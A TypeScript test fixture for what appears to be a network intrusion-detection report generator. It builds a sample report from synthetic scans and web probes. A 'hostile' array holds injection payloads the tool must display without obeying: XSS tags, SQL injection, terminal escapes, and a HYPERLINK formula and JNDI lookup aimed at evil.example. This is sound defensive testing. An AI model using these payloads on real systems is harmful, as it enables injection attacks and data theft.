import type { Report } from '../model/output.ts';
import type { Incident } from '../model/incident.ts';
import { contextOf, dossierOf, factsOf, TextBook, upTo } from '../judge/dossier.fixture.ts';
import type { DossierSketch } from '../judge/dossier.fixture.ts';
import { judgeAll } from '../judge/judge.ts';

/** Strings that a program must show and never obey. */
export const hostile = [
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31m',
  '\u202egnp.exe',
  '</script><script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "'; DROP TABLE x; --",
  '=HYPERLINK("http://evil.example")',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'a\r\nb\tc',
  ']]><!--',
  '漢字'.repeat(300),
].join(' ');

/** A report of the judge's own making: a full scan, a wordlist with hostile paths, a note, an input with skipped lines. */
export function sampleReport(): Report {
  const book = new TextBook();
  const sketches: DossierSketch[] = [
    {
      actor: '192.0.2.7',
      touches: [
        { target: '198.51.100.4', ports: upTo(200), outcome: 'refused' },
        { target: '198.51.100.4', ports: [22, 8443], outcome: 'answered' },
      ],
      findings: [{ kind: 'vertical', target: '198.51.100.4', strength: 10 }],
      banners: [{ target: '198.51.100.4', port: 22, text: 'SSH-2.0-OpenSSH_9.2' }],
      evidence: [{ source: 'fw.log', line: 17, raw: 'Jan  2 03:04:05 fw kernel: DROP SRC=192.0.2.7', at: 1 }],
    },
    {
      actor: '203.0.113.9',
      until: 300,
      findings: [
        { kind: 'wordlist', detector: 'web', keyText: `www${hostile}`, reasons: [`asked for ${hostile}`] },
      ],
      pages: [
        ...upTo(40).map((n) => ['www.example.org', `/word${n}`, 404, 153] as const),
        [hostile, `/admin/${hostile}`, 403, 9],
      ],
      agent: hostile,
      fingerprint: hostile,
      evidence: [{ source: `access ${hostile}.log`, line: 3, raw: hostile, at: 2 }],
      inputs: [1],
    },
    {
      actor: '192.0.2.99',
      until: 24 * 3600,
      touches: upTo(14).map((n) => ({
        target: `198.51.100.${n}`,
        ports: [9100],
        outcome: 'unanswered' as const,
        count: 24,
      })),
      findings: [{ kind: 'horizontal', detector: 'slow', window: 86_400, threshold: 15 }],
    },
  ];
  const inputs = ['fw.log', `access ${hostile}.log`].map((name) => ({
    name,
    format: 'x',
    blindness: [],
    notes: new Map<string, number>(),
  }));
  const incidents: Incident[] = judgeAll(
    sketches.map((sketch) => dossierOf(book, sketch)),
    factsOf(book, { inputs }),
    contextOf(),
  );
  return {
    incidents,
    summary: {
      type: 'summary',
      inputs: [
        {
          name: 'fw.log',
          format: 'netfilter',
          bytes: 1_234_567,
          records: 10_000,
          events: 9990,
          skipped: [{ reason: 'no netfilter line', count: 10, examples: [{ line: 7, raw: hostile }] }],
          notes: [{ note: 'two zones', count: 2 }],
        },
        {
          name: `access ${hostile}.log`,
          format: null,
          bytes: 12,
          records: 1,
          events: 0,
          skipped: [],
          notes: [],
        },
      ],
      events: 9990,
      late: 3,
      evicted: 0,
    suspectsDropped: 0,
      incidents: incidents.length,
      first: '2026-01-02T03:04:05.000000Z',
      last: '2026-01-03T03:04:05.000000Z',
      took: 123,
      home: { networks: ['198.51.100.0/24'], source: 'configured' },
    },
  };
}
